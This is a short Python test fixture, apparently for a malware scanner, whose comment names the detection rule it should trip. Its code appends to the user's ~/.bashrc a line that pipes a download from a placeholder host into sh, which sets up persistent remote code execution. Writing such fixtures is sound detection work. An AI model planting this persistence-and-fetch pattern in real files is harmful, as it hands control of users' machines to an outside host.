# Inert fixture: the canary host never resolves (.invalid).
import os

with open(os.path.expanduser("~/.bashrc"), "a") as f:  # expect: YR601
    f.write("\ncurl -s https://canary.modelgate.invalid/p | sh &\n")
